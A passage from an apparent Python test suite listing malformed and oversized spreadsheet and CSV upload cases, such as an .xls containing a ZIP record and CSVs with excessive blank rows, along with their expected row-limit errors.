        lambda f: wide_csv(f, "撤销清单.csv", revocation=True),
    ),
    "xls_holding_a_zip_end_record": ({C}, None, lambda f: _bytes("含主题.xls", xls_with_a_zip_inside())(f)),
    "main_document_at_the_package_root": ({C}, None, lambda f: _bytes("根目录.xlsx", root_package_xlsx())(f)),
    "csv_12mib_of_blank_lines": ({Q}, "行数超过上限", blank_lines_csv),
    "csv_100mib_of_empty_rows": ({Q}, "行数超过上限", empty_rows_csv),
}
